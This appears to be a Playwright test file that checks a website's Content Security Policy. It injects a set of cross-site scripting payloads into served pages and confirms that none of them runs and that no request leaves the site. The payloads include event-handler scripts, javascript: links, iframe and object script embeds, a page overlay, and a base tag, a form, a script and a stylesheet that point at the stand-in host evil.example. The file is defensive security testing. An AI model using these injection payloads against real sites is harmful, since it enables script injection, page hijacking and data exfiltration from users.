/** What a page may do: its policy, tried with markup that somebody got into it. */
import { allowViolations, expect, test } from './support/test.ts';
import { idle } from './support/pace.ts';

/** One of each way to run something, or to look like the site. */
const INJECTED = [
  '<img src="/nowhere.png" onerror="ran.push(1)">',
  '<svg onload="ran.push(2)"></svg>',
  '<script>ran.push(3)</script>',
  '<script src="data:text/javascript,ran.push(4)"></script>',
  '<script src="https://evil.example/x.js"></script>',
  '<iframe srcdoc="<script>parent.ran.push(5)</script>"></iframe>',
  '<a id="injected" href="javascript:ran.push(6)">a</a>',
  '<details open ontoggle="ran.push(7)"><summary>b</summary></details>',
  '<div style="position:fixed;inset:0;background:red" id="cover">c</div>',
  '<style>body{display:none}</style>',
  '<form action="https://evil.example/"><button id="send">d</button></form>',
  '<object data="data:text/html,<script>parent.ran.push(8)</script>"></object>',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
];

for (const path of ['/', '/tools/air-data', '/mentions-legales', '/nulle-part']) {
  test(`runs nothing of markup injected into ${path}`, async ({ page, context }) => {
    allowViolations(context);
    const asked: string[] = [];
    // One the policy stops is asked for by the page and goes no further.
    page.on('requestfinished', (request) => asked.push(request.url()));
    page.on('requestfailed', (request) => {
      if (request.failure()?.errorText !== 'csp') asked.push(request.url());
    });
    // In the page as served, before its policy could have been read by anything else.
    await page.route(path, async (route) => {
      const answer = await route.fetch();
      const html = await answer.text();
      const body = html.replace('<main id="content" tabindex="-1">', (start) => start + INJECTED.join(''));
      expect(body).not.toBe(html);
      await route.fulfill({ response: answer, body });
    });
    await page.addInitScript(() => Object.assign(globalThis, { ran: [] }));
    await page.goto(path);
    expect(await page.locator('#cover').evaluate((cover) => getComputedStyle(cover).position)).toBe('static');
    await expect(page.locator('body')).not.toHaveCSS('display', 'none');
    await page.evaluate(() => {
      for (const id of ['injected', 'send']) document.getElementById(id)?.click();
    });
    // In the page as it lives: each way a text could become markup, a script or a worker.
    const refused = await page.evaluate(async () => {
      // What the test itself runs may evaluate text; what comes a turn later is the page's.
      await new Promise((resolve) => setTimeout(resolve));
      const sinks: Record<string, () => unknown> = {
        innerHTML: () => (document.body.innerHTML = '<b>'),
        outerHTML: () => (document.createElement('p').outerHTML = '<b>'),
        insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b>'),
        write: () => document.write('<b>'),
        parseFromString: () => new DOMParser().parseFromString('<b>', 'text/html'),
        createContextualFragment: () => document.createRange().createContextualFragment('<b>'),
        srcdoc: () => (document.createElement('iframe').srcdoc = '<b>'),
        script: () => (document.createElement('script').text = '1'),
        scriptSrc: () => (document.createElement('script').src = '/_astro/../api/ai/models'),
        eval: () => Reflect.apply(eval, self, ['1']),
        timer: () => Reflect.apply(setTimeout, self, ['ran.push(9)']),
        worker: () => new Worker('data:text/javascript,1'),
        workerOfBlob: () => new Worker(URL.createObjectURL(new Blob(['1']))),
      };
      return Object.entries(sinks).flatMap(([name, use]) => {
        try {
          use();
          return [];
        } catch {
          return [name];
        }
      });
    });
    expect(refused).toEqual([
      'innerHTML',
      'outerHTML',
      'insertAdjacentHTML',
      'write',
      'parseFromString',
      'createContextualFragment',
      'srcdoc',
      'script',
      'scriptSrc',
      'eval',
      'timer',
      'worker',
      'workerOfBlob',
    ]);
    await idle(page);
    expect(await page.evaluate(() => (globalThis as unknown as { ran: unknown[] }).ran)).toEqual([]);
    expect(asked.filter((url) => !url.startsWith(new URL(page.url()).origin) && !url.startsWith('data:'))).toEqual([]);
  });
}
